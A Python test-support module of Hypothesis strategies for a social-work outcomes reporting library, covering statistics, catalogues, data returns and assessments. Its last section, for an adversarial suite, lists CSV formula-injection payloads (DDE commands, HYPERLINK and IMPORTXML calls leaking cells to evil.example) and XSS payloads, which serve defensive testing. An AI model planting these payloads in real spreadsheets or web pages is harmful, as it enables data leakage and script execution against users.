"""Hypothesis strategies shared by the test suite (one place, reused everywhere)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools
import math
from collections.abc import Sequence
from typing import Any

import pandas as pd
from hypothesis import strategies as st

from outcomes import Assessment, Indicator, load_catalogue, parse_period
from outcomes.assessment import (
    AgreedAction,
    ExpectedDirection,
    Judgement,
    PeerAssessment,
    PeerMethod,
    Plan,
    PlanProgress,
    PreviousPlan,
    PromptAnswer,
    ProviderType,
    SectionReturn,
    SignOff,
    SignOffRole,
    Statement,
    load_prompts,
)
from outcomes.vocabulary import ReportSection, ReportStatus, ReturnSection

# --- Statistics (outcomes.stats) ---------------------------------------------------------

#: Confidence levels from barely-there to very strict, away from the open ends 0 and 1.
confidence_levels = st.floats(min_value=0.01, max_value=0.9999)


@st.composite
def proportion_counts(draw: st.DrawFn, max_n: int = 100_000) -> tuple[int, int]:
    """``(x, n)`` with ``0 ≤ x ≤ n`` and ``n ≥ 1``, biased towards the edges 0 and n."""
    n = draw(st.integers(min_value=1, max_value=max_n))
    x = draw(st.one_of(st.just(0), st.just(n), st.integers(min_value=0, max_value=n)))
    return x, n


#: Event counts for Poisson intervals, covering both sides of the exact/Byar boundary.
event_counts = st.one_of(
    st.integers(min_value=0, max_value=30), st.integers(min_value=0, max_value=1_000_000)
)


@st.composite
def mean_summaries(draw: st.DrawFn) -> tuple[float, float, int]:
    """``(mean, sd, n)`` summaries of a sample with at least two observations."""
    mean = draw(st.floats(min_value=-1e6, max_value=1e6, allow_nan=False))
    sd = draw(st.floats(min_value=0, max_value=1e4, allow_nan=False))
    n = draw(st.integers(min_value=2, max_value=100_000))
    return mean, sd, n


# --- Catalogue TOML ----------------------------------------------------------------------

TomlValue = str | int | float | bool | list["TomlValue"] | dict[str, "TomlValue"]


def toml_value(value: object) -> str:
    """Write one value as TOML (strings, numbers, booleans, lists, inline tables)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value)
    if isinstance(value, str):
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        escaped = "".join(c if c.isprintable() else f"\\U{ord(c):08x}" for c in escaped)
        return f'"{escaped}"'
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(element) for element in value) + "]"
    if isinstance(value, dict):
        pairs = (f"{toml_value(key)} = {toml_value(element)}" for key, element in value.items())
        return "{ " + ", ".join(pairs) + " }"
    raise TypeError(f"cannot write {value!r} as TOML")


def toml_document(tables: dict[str, list[dict[str, object]]]) -> str:
    """Write ``{"indicator": [...], "item": [...]}`` as arrays of tables."""
    lines: list[str] = []
    for name, entries in tables.items():
        for entry in entries:
            lines.append(f"[[{name}]]")
            lines += [f"{toml_value(key)} = {toml_value(value)}" for key, value in entry.items()]
            lines.append("")
    return "\n".join(lines)


def valid_indicator(**changes: object) -> dict[str, object]:
    """A well-formed proportion indicator using the items of :func:`valid_items`."""
    indicator: dict[str, object] = {
        "id": "CC99",
        "title": "Adults supported at home who feel safe",
        "measure": "proportion",
        "numerator": "adults_feeling_safe",
        "denominator": "adults_surveyed",
        "multiplier": 100,
        "unit": "% of adults supported at home",
        "polarity": "higher_is_better",
        "branch": "community_care",
        "recommendations": [1, 11],
        "outcome_for": ["people_who_use_services"],
        "period_type": "financial_year",
        "source": "A test source, https://example.org/survey",
    }
    indicator.update(changes)
    return indicator


def valid_items() -> list[dict[str, object]]:
    """The two data items :func:`valid_indicator` uses."""
    return [
        {"name": "adults_feeling_safe", "title": "Adults who feel safe", "unit": "people",
         "kind": "count"},
        {"name": "adults_surveyed", "title": "Adults who answered", "unit": "people",
         "kind": "count"},
    ]  # fmt: skip


_text = st.text(st.characters(codec="utf-8"), max_size=12)
_scalars = st.one_of(
    _text,
    st.integers(min_value=-(2**40), max_value=2**40),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.sampled_from(["proportion", "rate", "count", "neutral", "1000/52", "1000/0", "SW6"]),
)
_values: st.SearchStrategy[object] = st.recursive(
    _scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=3), st.dictionaries(_text, children, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def faulty_catalogue_documents(draw: st.DrawFn) -> str:
    """TOML text for a catalogue file with random faults: keys dropped, added or retyped,
    tables duplicated, or the text itself broken."""
    indicators = [valid_indicator(), valid_indicator(id="CC98", measure="rate", multiplier=1000)]
    items = valid_items()
    for entry in draw(st.lists(st.sampled_from([*indicators, *items]), max_size=4)):
        fault = draw(st.sampled_from(["drop", "add", "retype"]))
        key = draw(st.sampled_from(sorted(entry)))
        if fault == "drop":
            entry.pop(key, None)
        elif fault == "add":
            entry[draw(_text.filter(bool))] = draw(_values)
        else:
            entry[key] = draw(_values)
    if draw(st.booleans()):
        indicators.append(dict(draw(st.sampled_from(indicators))))
    text = toml_document({"indicator": indicators, "item": items})
    if draw(st.integers(min_value=0, max_value=9)) == 0:
        cut = draw(st.integers(min_value=0, max_value=len(text)))
        text = text[:cut] + draw(_text) + text[cut:]
    return text


# --- Changes, trends and control charts (outcomes.stats) ---------------------------------


@st.composite
def rate_counts(draw: st.DrawFn, max_events: int = 1_000_000) -> tuple[int, int]:
    """``(x, n)``: a count of events and a positive denominator, for a rate."""
    x = draw(st.one_of(st.integers(min_value=0, max_value=30), st.integers(0, max_events)))
    n = draw(st.integers(min_value=1, max_value=10_000_000))
    return x, n


@st.composite
def trend_series(
    draw: st.DrawFn, kind: str = "proportion", max_series: int = 10, max_periods: int = 8
) -> tuple[list[list[int]], list[list[int]]]:
    """``(x, n)`` as (series, periods) nested lists of counts, for the trend tests.

    ``kind`` is ``"proportion"`` (0 ≤ x ≤ n) or ``"rate"`` (any x ≥ 0). Some series
    are level or empty, and some drift, so both significant and flat trends appear.
    """
    series = draw(st.integers(min_value=1, max_value=max_series))
    periods = draw(st.integers(min_value=2, max_value=max_periods))
    events: list[list[int]] = []
    denominators: list[list[int]] = []
    for _ in range(series):
        sizes = draw(st.lists(st.integers(1, 5_000), min_size=periods, max_size=periods))
        if kind == "proportion":
            row = [draw(st.one_of(st.just(0), st.just(n), st.integers(0, n))) for n in sizes]
        else:
            row = draw(st.lists(st.integers(0, 3_000), min_size=periods, max_size=periods))
        events.append(row)
        denominators.append(sizes)
    return events, denominators


@st.composite
def spc_series(
    draw: st.DrawFn, max_series: int = 6, min_periods: int = 1, max_periods: int = 30
) -> list[list[float]]:
    """(series, periods) values for control charts: small whole numbers, so ties, runs
    and points on the centre line are common, or floats with a planted level shift."""
    series = draw(st.integers(min_value=1, max_value=max_series))
    periods = draw(st.integers(min_value=min_periods, max_value=max_periods))
    rows: list[list[float]] = []
    for _ in range(series):
        if draw(st.booleans()):
            top = draw(st.integers(min_value=0, max_value=6))
            values = st.integers(0, top).map(float)
        else:
            values = st.floats(min_value=-1e6, max_value=1e6, allow_nan=False)
        row = draw(st.lists(values, min_size=periods, max_size=periods))
        shift_at = draw(st.integers(min_value=0, max_value=periods))
        shift = draw(st.sampled_from([0.0, 5.0, -40.0]))
        rows.append([v + (shift if t >= shift_at else 0.0) for t, v in enumerate(row)])
    return rows


# --- Funnel plots (outcomes.stats) ------------------------------------------------------------

#: Target proportions for funnel limits, with the edges 0 and 1 and tiny values near them.
funnel_targets = st.one_of(
    st.sampled_from([0.0, 1.0, 0.5]),
    st.floats(min_value=0, max_value=1, allow_nan=False),
    st.floats(min_value=1e-6, max_value=1e-2),
    st.floats(min_value=0.99, max_value=1 - 1e-6),
)

#: Target rates in the units of the rate (per 1, per 1,000 or per 100,000).
funnel_rate_targets = st.tuples(
    st.one_of(st.just(0.0), st.floats(min_value=1e-6, max_value=1e5)),
    st.sampled_from([1, 1000, 100_000]),
)


@st.composite
def nested_denominators(draw: st.DrawFn, max_n: int = 1_000_000) -> tuple[int, int]:
    """``(smaller, larger)`` denominators, sometimes neighbours, sometimes far apart."""
    smaller = draw(st.integers(min_value=1, max_value=max_n))
    step = draw(st.one_of(st.just(1), st.integers(min_value=1, max_value=max_n)))
    return smaller, smaller + step


# --- Datasets for the statistics engine ----------------------------------------------------


@st.composite
def proportion_panels(
    draw: st.DrawFn, max_areas: int = 8, periods: tuple[str, ...] = ("2023-24", "2024-25")
) -> list[tuple[str, str, int, int]]:
    """Rows ``(area, period, numerator, denominator)`` for one proportion indicator, with
    small counts often enough to exercise suppression."""
    areas = [f"Area {n}" for n in range(draw(st.integers(min_value=2, max_value=max_areas)))]
    rows = []
    for area in areas:
        for period in periods:
            denominator = draw(st.integers(min_value=1, max_value=400))
            numerator = draw(
                st.one_of(
                    st.integers(min_value=0, max_value=min(6, denominator)),
                    st.integers(min_value=0, max_value=denominator),
                )
            )
            rows.append((area, period, numerator, denominator))
    return rows


# --- Data returns (templates, validation, collation) -------------------------------------

#: Areas and values of the clean return that :func:`malformed_returns` starts from.
RETURN_AREAS = ("Fife", "Angus")
RETURN_VALUES = {"adults_feeling_safe": 40, "adults_surveyed": 50, "social_workers_wte": 12.5}


def return_catalogue_document() -> str:
    """TOML for a small catalogue: a financial-year proportion and a calendar-year count,
    so a return holds both kinds of period label."""
    count = valid_indicator(
        id="WS99", title="Social workers", measure="count", numerator="social_workers_wte",
        multiplier=1, unit="WTE", branch="whole_service", period_type="calendar_year",
    )  # fmt: skip
    del count["denominator"]
    items: list[dict[str, object]] = [
        *valid_items(),
        {"name": "social_workers_wte", "title": "Social workers", "unit": "WTE", "kind": "count"},
    ]
    return toml_document({"indicator": [valid_indicator(), count], "item": items})


def clean_return_rows() -> list[dict[str, str]]:
    """The clean return for :data:`RETURN_AREAS` in 2024-25, as text cells."""
    return [
        {"area": area, "period": "2024" if item == "social_workers_wte" else "2024-25",
         "item": item, "value": f"{value:g}", "flag": ""}
        for area in RETURN_AREAS
        for item, value in RETURN_VALUES.items()
    ]  # fmt: skip


#: ``(problem name, file, row, area, period, item)`` of one planted fault; ``row`` is 0
#: for a fault with no row (a missing item) and 1 for the header.
Planted = tuple[str, str, int, str, str, str]

_ROW_FAULTS: dict[str, tuple[str, str, st.SearchStrategy[str]]] = {
    # fault: (problem, column, replacement text)
    "not_a_number": ("NOT_A_NUMBER", "value",
                     st.sampled_from(["abc", "n/a", "#DIV/0!", "twelve", "=A1*2", "1.2.3x"])),
    "ambiguous": ("AMBIGUOUS_NUMBER", "value", st.sampled_from(["12,5", "1,23", "1,2345"])),
    "date": ("DATE_VALUE", "value", st.sampled_from(["2024-03-31", "31/03/2024", "1-Apr"])),
    "percent": ("PERCENTAGE", "value", st.sampled_from(["45%", "12.5 %", "1,000%"])),
    "negative": ("NEGATIVE_COUNT", "value", st.sampled_from(["-5", "(3)", "-1,200"])),
    "empty": ("EMPTY_VALUE", "value", st.just("")),
    "unknown_item": ("UNKNOWN_ITEM", "item", st.sampled_from(["adults_feeling_sade", "x"])),
    "bad_period": ("BAD_PERIOD", "period", st.sampled_from(["2024-26", "24/25", "FY2024"])),
    "unknown_area": ("UNKNOWN_AREA", "area", st.sampled_from(["Fiffe", "Glasgow"])),
    "reserved_area": ("RESERVED_AREA", "area", st.sampled_from(["Scotland", "family_group:A"])),
    "unknown_flag": ("UNKNOWN_FLAG", "flag", st.sampled_from(["maybe", "final", "est"])),
    "not_collected": ("VALUE_NOT_COLLECTED", "flag", st.just("not_collected")),
}  # fmt: skip
#: Spellings of a clean value that must be read as the same number.
_SPELLINGS = {
    40: ["40", " 40 ", "40.0", "'40", "40\u00a0", "£40", "+40"],
    50: ["50", "50.00", " 50", "'50"],
    12.5: ["12.5", "12.50", "'12.5", " 12.5 "],
}


@st.composite
def malformed_returns(
    draw: st.DrawFn,
) -> tuple[list[list[dict[str, str]]], list[Planted], bool]:
    """A return (and sometimes a second file) with faults planted on distinct rows.

    Returns ``(files, planted, column_fault)``: ``files`` is a list of files, each a list
    of rows (dicts of text cells; the first file is ``main.csv``, a second ``other.csv``);
    ``planted`` lists what validation must report. When ``column_fault`` is true a
    required column was removed, so only that is expected.
    """
    rows = clean_return_rows()
    for row in rows:
        row["value"] = draw(st.sampled_from(_SPELLINGS[RETURN_VALUES[row["item"]]]))
    if draw(st.integers(min_value=0, max_value=19)) == 0:
        column = draw(st.sampled_from(["area", "period", "item", "value"]))
        for row in rows:
            del row[column]
        return [rows], [("MISSING_COLUMN", "main.csv", 1, "", "", "")], True
    order = draw(st.permutations(range(len(rows))))
    free = list(order)
    faults = draw(st.lists(st.sampled_from([*_ROW_FAULTS, "numerator_above", "missing",
                                            "duplicate", "conflict", "jump"]),
                           min_size=1, max_size=4))  # fmt: skip
    marks: dict[int, list[tuple[str, str]]] = {}  # row index -> (problem, column)
    dropped: list[int] = []
    duplicates: list[int] = []
    other: list[dict[str, str]] = []
    other_marks: list[str] = []
    for fault in faults:
        if fault == "numerator_above":
            # Rows are area by area, items in RETURN_VALUES order: numerator, denominator.
            first = len(RETURN_VALUES) * draw(st.integers(0, len(RETURN_AREAS) - 1))
            pair = [first, first + 1]
            if not all(i in free for i in pair):
                continue
            for i in pair:
                free.remove(i)
            rows[pair[0]]["value"] = "60"
            marks[pair[0]] = [("NUMERATOR_ABOVE_DENOMINATOR", "value")]
            continue
        if not free:
            break
        i = free.pop()
        if fault == "missing":
            dropped.append(i)
        elif fault == "duplicate":
            duplicates.append(i)
        elif fault == "conflict":
            copy = dict(rows[i], value="7", flag="")
            other.append(copy)
            other_marks.append("CONFLICTING_VALUES")
            marks[i] = [("CONFLICTING_VALUES", "value")]
        elif fault == "jump":
            rows[i]["value"] = "1000"
            rows[i]["flag"] = ""
            marks[i] = [("IMPLAUSIBLE_CHANGE", "value")]
        else:
            problem, column, text = _ROW_FAULTS[fault]
            rows[i][column] = draw(text)
            if fault == "not_collected":
                rows[i]["value"] = draw(st.sampled_from(["3", "0"]))
            marks[i] = [(problem, column)]
    planted: list[Planted] = []
    kept = [i for i in range(len(rows)) if i not in dropped]
    written = [rows[i] for i in kept] + [dict(rows[i]) for i in duplicates]
    for position, i in enumerate(kept):
        for problem, _column in marks.get(i, []):
            planted.append((problem, "main.csv", position + 2, "", "", ""))
    for n, _ in enumerate(duplicates):
        planted.append(("DUPLICATE_ROW", "main.csv", len(kept) + n + 2, "", "", ""))
    for i in dropped:
        row = rows[i]
        # A missing item is only noticed in a block (area and year) something else returns.
        alive = any(r["area"] == row["area"] and r["period"] in ("2024", "2024-25")
                    for r in written + other)  # fmt: skip
        if alive:
            planted.append(("MISSING_ITEM", "main.csv", 0, row["area"], row["period"],
                            row["item"]))  # fmt: skip
    for n, problem in enumerate(other_marks):
        planted.append((problem, "other.csv", n + 2, "", "", ""))
    if draw(st.booleans()):
        for row in written:
            row["notes"] = draw(st.sampled_from(["", "checked by JS", "=1+1"]))
        if any(row["notes"] for row in written):
            planted.append(("EXTRA_COLUMN", "main.csv", 1, "", "", ""))
    files = [written, other] if other else [written]
    return files, planted, False


#: Text cells for fuzzing readers: anything, plus the characters that matter to CSV.
return_cells = st.one_of(
    st.text(max_size=8),
    st.sampled_from(["", ",", '"', "\n", "\r\n", "=1+1", "1,234", "12,5", "-", "\ufeff", "%"]),
)


# --- Assessments (assessment.toml) -------------------------------------------------------

#: Text that is hard to write as TOML: quotes, backslashes, line breaks, triple quotes,
#: control characters, DEL, non-ASCII and characters beyond the Basic Multilingual Plane.
_awkward_fragments = st.sampled_from(
    ['"', '""', '"""', "'''", "\\", "\\n", "\\\n", "\n", "\r\n", "\r", "\t", "\x00", "\x1b",
     "\x7f", "\x85", "\u2028", "\ufeff", "é", "—", "£", "🎉", "#", "=", "[x]", "${x}"]
)  # fmt: skip
_any_characters = st.characters(exclude_categories=["Cs"])  # no lone surrogates: not UTF-8


def _edge_trimmed(value: str) -> str:
    # Readers strip text, so text given to them has no whitespace at either end.
    return value.strip()


#: Non-empty text as a person (or a careless tool) might write it, already trimmed.
assessment_texts = (
    st.lists(st.one_of(st.text(_any_characters, max_size=8), _awkward_fragments), max_size=4)
    .map("".join)
    .map(_edge_trimmed)
    # Text that trims to nothing becomes a letter rather than being filtered out: the
    # assessment strategies draw dozens of texts, and filtering made Hypothesis give up.
    .map(lambda text: text or "x")
)

_recommendation_lists = st.lists(st.integers(min_value=1, max_value=13), unique=True, max_size=13)
_text_lists = st.lists(assessment_texts, max_size=2).map(tuple)


@st.composite
def assessment_periods(draw: st.DrawFn) -> tuple[str, dt.date]:
    """A period label (financial or calendar year) and the date it starts."""
    year = draw(st.integers(min_value=1990, max_value=2100))
    label = draw(st.sampled_from([f"{year}-{(year + 1) % 100:02d}", f"{year}"]))
    return label, parse_period(label).start


def _dates_from(first: dt.date) -> st.SearchStrategy[dt.date]:
    return st.dates(min_value=first, max_value=first + dt.timedelta(days=3 * 366))


#: An answer to the data, or none (an empty response is not written).
_responses = st.one_of(st.just(""), assessment_texts)


@st.composite
def statements(draw: st.DrawFn) -> Statement:
    """A strength, priority or achievement with valid links (indicators are not checked)."""
    return Statement(
        text=draw(assessment_texts),
        recommendations=draw(_recommendation_lists),
        indicators=draw(_text_lists),
        response=draw(_responses),
    )


@st.composite
def plans(draw: st.DrawFn, plan_id: str, first_due: dt.date) -> Plan:
    """A plan called ``plan_id`` due no earlier than ``first_due``."""
    return Plan(
        id=plan_id,
        action=draw(assessment_texts),
        owner=draw(assessment_texts),
        due=draw(_dates_from(first_due)),
        recommendations=draw(_recommendation_lists),
        indicators=draw(_text_lists),
        expected=draw(st.sampled_from(ExpectedDirection)),
    )


@st.composite
def section_returns(draw: st.DrawFn, section: ReturnSection) -> SectionReturn:
    """One section of the return; a section not provided always gives its reason."""
    provided = draw(st.booleans())
    reason = draw(assessment_texts if not provided else st.one_of(st.just(""), assessment_texts))
    return SectionReturn(
        section=section,
        provided=provided,
        reason=reason,
        strengths=draw(st.lists(statements(), max_size=1)),
        priorities=draw(st.lists(statements(), max_size=1)),
    )


def _sign_offs(roles: Sequence[SignOffRole], first: dt.date) -> st.SearchStrategy[SignOff]:
    return st.builds(
        SignOff, name=assessment_texts, role=st.sampled_from(roles), date=_dates_from(first)
    )


@st.composite
def peer_assessments(
    draw: st.DrawFn, area: str, starts: dt.date, not_provided: frozenset[ReportSection]
) -> PeerAssessment:
    """A peer assessment of ``area`` that breaks no rule; signed by both CSWOs or not."""
    peer_area = draw(assessment_texts.filter(lambda name: name != area))
    started = draw(_dates_from(starts))
    finished = draw(_dates_from(started))
    cswo = [SignOffRole.CHIEF_SOCIAL_WORK_OFFICER]
    area_sign_off = draw(st.none() | _sign_offs(cswo, finished))
    peer_sign_off = draw(st.none() | _sign_offs(cswo, finished))
    signed = area_sign_off is not None and peer_sign_off is not None
    # A signed assessment judges every section the area provides; otherwise any of them.
    required = [s for s in ReportSection if s not in not_provided] if signed else []
    others = [s for s in ReportSection if s not in required]
    extra = draw(st.lists(st.sampled_from(others), unique=True)) if others else []
    sections = draw(st.permutations(required + extra))
    judgements = [
        Judgement(
            section=section,
            grade=draw(st.integers(min_value=1, max_value=6)),
            evidence=draw(assessment_texts),
            indicators=draw(_text_lists),
            response=draw(_responses),
        )
        for section in sections
    ]
    # A judgement below "good" needs an agreed action for its section.
    acted = [j.section for j in judgements if j.grade < 4]
    acted += draw(st.lists(st.sampled_from(ReportSection), max_size=2))
    actions = [
        AgreedAction(
            action=draw(assessment_texts),
            owner=draw(assessment_texts),
            due=draw(_dates_from(finished)),
            section=section,
            recommendations=draw(_recommendation_lists),
        )
        for section in draw(st.permutations(acted))
    ]
    return PeerAssessment(
        peer_area=peer_area,
        peer_name=draw(assessment_texts),
        started=started,
        finished=finished,
        method=PeerMethod(
            documents=draw(_text_lists),
            people_met=draw(_text_lists),
            data_examined=draw(_text_lists),
        ),
        judgements=judgements,
        strengths=draw(_text_lists),
        improvements=draw(_text_lists),
        actions=actions,
        area_sign_off=area_sign_off,
        peer_sign_off=peer_sign_off,
    )


_ASSESSMENT_BRANCHES = {
    ReturnSection.CHILDREN_FAMILIES: ReportSection.CHILDREN_FAMILIES,
    ReturnSection.COMMUNITY_CARE: ReportSection.COMMUNITY_CARE,
    ReturnSection.CRIMINAL_JUSTICE: ReportSection.CRIMINAL_JUSTICE,
}
_NARRATIVE_SECTIONS = ("introduction", "governance", "public_protection", "resources", "workforce")
_RETURN_SIGN_OFF_ROLES = {
    ProviderType.COUNCIL: [SignOffRole.CHIEF_SOCIAL_WORK_OFFICER],
    ProviderType.INDEPENDENT: [SignOffRole.CHIEF_EXECUTIVE, SignOffRole.DIRECTOR],
}


@st.composite
def valid_assessments(draw: st.DrawFn) -> Assessment:
    """An :class:`Assessment` that breaks no rule of ``check_assessment`` (no catalogue)."""
    area = draw(assessment_texts)
    period, starts = draw(assessment_periods())
    provider = draw(st.sampled_from(ProviderType))
    prompt_ids = [prompt.id for prompt in load_prompts()]
    answered = draw(st.lists(st.sampled_from(prompt_ids), unique=True, max_size=6))
    sections = [draw(section_returns(section)) for section in ReturnSection]
    not_provided = frozenset(
        _ASSESSMENT_BRANCHES[given.section]
        for given in sections
        if not given.provided and given.section in _ASSESSMENT_BRANCHES
    )
    plan_ids = draw(st.lists(assessment_texts, unique=True, max_size=3))
    previous_ids = draw(st.lists(assessment_texts, max_size=2))
    sign_off = draw(st.none() | _sign_offs(_RETURN_SIGN_OFF_ROLES[provider], starts))
    peer = draw(st.none() | peer_assessments(area, starts, not_provided))
    statuses = [ReportStatus.DRAFT]
    if peer is not None and peer.signed:
        statuses.append(ReportStatus.PEER_ASSESSED)
        if sign_off is not None:
            statuses.append(ReportStatus.PUBLISHED)
    return Assessment(
        area=area,
        period=period,
        provider=provider,
        status=draw(st.sampled_from(statuses)),
        narrative=draw(st.dictionaries(st.sampled_from(_NARRATIVE_SECTIONS), assessment_texts)),
        self_assessment=[
            PromptAnswer(prompt=prompt, answer=draw(st.one_of(st.just(""), assessment_texts)))
            for prompt in answered
        ],
        sections=sections,
        achievements=draw(st.lists(statements(), max_size=2)),
        plans=[draw(plans(plan_id, starts)) for plan_id in plan_ids],
        previous_plans=[
            PreviousPlan(
                plan=draw(plans(plan_id, starts - dt.timedelta(days=366))),
                progress=draw(st.sampled_from(PlanProgress)),
                comment=draw(st.one_of(st.just(""), assessment_texts)),
                response=draw(_responses),
            )
            for plan_id in previous_ids
        ],
        sign_off=sign_off,
        peer_assessment=peer,
    )


# --- Networks of shared interest (outcomes.national._networks) --------------------------------

#: Few keys, so that areas often name the same: four recommendations, and three indicators
#: of the bundled catalogue beside one id that is in no catalogue.
_NETWORK_RECOMMENDATIONS = st.lists(st.integers(min_value=1, max_value=4), unique=True,
                                    max_size=3)  # fmt: skip
_NETWORK_INDICATORS = st.lists(st.sampled_from(["SW6", "CHN9", "CJ07", "ZZ-NOT-KNOWN"]),
                               unique=True, max_size=2)  # fmt: skip


#: Plain texts: the networks count links, and a text is only carried (and may repeat).
_NETWORK_TEXTS = st.sampled_from(["Keep carers supported.", "Fewer delays; sooner home.",
                                  "Recruit social workers.", "Première étape — £5"])  # fmt: skip


@st.composite
def network_statements(draw: st.DrawFn) -> Statement:
    """A statement linked to a few recommendations and indicators drawn from small pools."""
    return Statement(
        text=draw(_NETWORK_TEXTS),
        recommendations=draw(_NETWORK_RECOMMENDATIONS),
        indicators=draw(_NETWORK_INDICATORS),
    )


@st.composite
def network_assessments(
    draw: st.DrawFn, period: str = "2024-25", max_areas: int = 6
) -> dict[str, Assessment]:
    """Assessments of up to ``max_areas`` areas for one ``period``, keyed by area, whose
    priorities, plans, strengths and national priorities often name the same keys; some
    sections are not provided."""
    names = draw(st.lists(area_names, max_size=max_areas, unique=True))
    statements_of = st.lists(network_statements(), max_size=2)
    found = {}
    for area in names:
        sections = [
            SectionReturn(section=section, provided=draw(st.booleans()), reason="Not ours.",
                          strengths=draw(statements_of), priorities=draw(statements_of))
            for section in ReturnSection
        ]  # fmt: skip
        plans = [
            Plan(id=f"P{number}", action="Act.", owner="Owner", due=dt.date(2026, 3, 31),
                 recommendations=draw(_NETWORK_RECOMMENDATIONS),
                 indicators=draw(_NETWORK_INDICATORS),
                 expected=draw(st.sampled_from(ExpectedDirection)))
            for number in range(draw(st.integers(min_value=0, max_value=2)))
        ]  # fmt: skip
        found[area] = Assessment(area=area, period=period, sections=sections,
                                 achievements=draw(statements_of), plans=plans)  # fmt: skip
    return found


# --- Peer pairing ----------------------------------------------------------------------------

#: Area names: one or two capitalised words, never the reserved ``Scotland``.
area_names = st.from_regex(r"[A-Z][a-z]{0,5}( [A-Z][a-z]{0,5})?", fullmatch=True).filter(
    lambda name: name != "Scotland"
)


@st.composite
def areas_with_family_groups(
    draw: st.DrawFn, min_areas: int = 3, max_areas: int = 30
) -> list[tuple[str, str]]:
    """Rows ``(area, family_group)`` in random order: family groups of every size, single
    areas included, and some areas with no family group (``""``)."""
    names = draw(st.lists(area_names, min_size=min_areas, max_size=max_areas, unique=True))
    groups = [f"Group {n}" for n in range(draw(st.integers(min_value=1, max_value=6)))]
    family_group = st.one_of(st.sampled_from(groups), st.just(""))
    return [(name, draw(family_group)) for name in names]


# --- Display: formatting and charts (outcomes.report._format and _figures) ---------------

#: Any float a results cell can hold, NaN and the infinities included.
any_floats = st.floats(allow_nan=True, allow_infinity=True)

#: Every indicator of the bundled catalogue (loaded when first drawn from).
bundled_indicators: st.SearchStrategy[Indicator] = st.deferred(
    lambda: st.sampled_from(load_catalogue().indicators)
)

#: Values to chart: plausible figures, gaps as None or NaN, and repeated round values.
chart_values = st.one_of(
    st.none(),
    st.just(float("nan")),
    st.sampled_from([0.0, 1.0, 100.0]),
    st.floats(min_value=-1e9, max_value=1e9, allow_nan=False),
)

#: Labels as typed into an areas file: markup, quotes and control characters included.
chart_labels = st.text(max_size=30)


# --- SVG figures (outcomes.report._figures) -------------------------------------------------------

#: Numbers a figure must survive: gaps (None, NaN), infinities, signed zeros, subnormals and
#: the ends of float, as well as ordinary values.
figure_numbers: st.SearchStrategy[float | None] = st.one_of(
    st.none(),
    st.floats(),
    st.sampled_from([0.0, -0.0, 5e-324, -5e-324, 1e-300, 1.7976931348623157e308,
                     -1.7976931348623157e308, 1e15, 0.1]),
    st.floats(min_value=-1e3, max_value=1e3),
)  # fmt: skip

FIGURE_SERIES = ("values", "lower", "upper", "scotland", "family_group")


@st.composite
def figure_series(draw: st.DrawFn, max_size: int = 12) -> dict[str, list[float | None]]:
    """Aligned series for one figure, keyed by :data:`FIGURE_SERIES`, all of one length
    (possibly zero); a series is sometimes one repeated value."""
    size = draw(st.integers(min_value=0, max_value=max_size))
    level = draw(figure_numbers)
    series: dict[str, list[float | None]] = {}
    for name in FIGURE_SERIES:
        if draw(st.integers(min_value=0, max_value=4)) == 0:
            series[name] = [level] * size
        else:
            series[name] = draw(st.lists(figure_numbers, min_size=size, max_size=size))
    return series


# --- Hostile input (the adversarial suite, tests/adversarial) ----------------------------------
#
# Each strategy below describes a hostile input built on the bundled example (real area
# names, periods, items and values) and says, for every row it plants, what reading it must
# give: the exact tidy row, a refusal, or anything. tests/adversarial writes the description
# to files and holds the library to the promises of docs/security.md.

#: Text a spreadsheet runs as a formula: every trigger character, HYPERLINK and DDE classics.
FORMULA_PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+A1",
    "-A1",
    "@A1",
)
#: Markup payloads: script tags, event handlers, javascript: links, attribute break-outs,
#: template syntax.
XSS_PAYLOADS = (
    "<script>alert('xss-1')</script>",
    "\"><img src=x onerror=alert('xss-2')>",
    "<svg onload=alert('xss-3')>",
    "<a href=\"javascript:alert('xss-4')\">x</a>",
    "'><iframe src=javascript:alert('xss-5')>",
    "[x](javascript:alert('xss-6'))",
    "<IMG SRC=x OnError=alert('xss-7')>",
    "</textarea><script>alert('xss-8')</script>",
    "{{ 7*7 }}{% raw %}${7*7}",
)
#: Cells no return means as a number: beyond 10^15, overflowing, other scripts' digits, words.
NUMBER_TRAPS = (
    "1e16", "1e309", "-1e309", "9" * 400, "NaN", "nan", "inf", "-inf", "Infinity", "0x10",
    "1_000", "½", "²", "١٢٣", "\uff11\uff12\uff13", "१२३", "۱۲۳", "12,5", "45%", "2024-03-31",
    "(3)", "#REF!", "#N/A", "TRUE", "1.2.3", "1e", "e5", "--5", "+-5", "5-", "£", "n/a",
    "\ufeff40", "4\u200b0", "40 people",
)  # fmt: skip
#: Odd characters: byte-order marks, zero-width and bidi controls, escapes, other scripts.
ODD_TEXT = ("\ufeff", "\u200b", "\u202e", "\x1b[31m", "e\u0301", "🎉", "Ñandú", "日本", "\x7f")

#: Any text a person or a tool might put in a cell or a TOML string, hostile or not.
hostile_texts = st.one_of(
    st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=16),
    st.sampled_from(ODD_TEXT),
    st.lists(st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS + ODD_TEXT), min_size=2,
             max_size=4).map("".join),
)  # fmt: skip


def _has_letter(text: str) -> bool:
    # A letter other than e or E: no number format reads it.
    return any(c.isalpha() and c not in "eE" for c in text)


#: Value cells that must never be read as a number.
value_traps = st.one_of(
    st.sampled_from(NUMBER_TRAPS + FORMULA_PAYLOADS + XSS_PAYLOADS),
    hostile_texts.filter(_has_letter),
)


def tidy_text(text: str) -> str:
    """A cell as the tidy readers see it: each run of white space one space, trimmed."""
    import re

    return re.sub(r"[\s\u00a0\u2007\u202f]+", " ", text).strip()


def plain_number(value: float) -> str:
    """``value`` as plain text: no ``.0`` on whole numbers, else the shortest repr."""
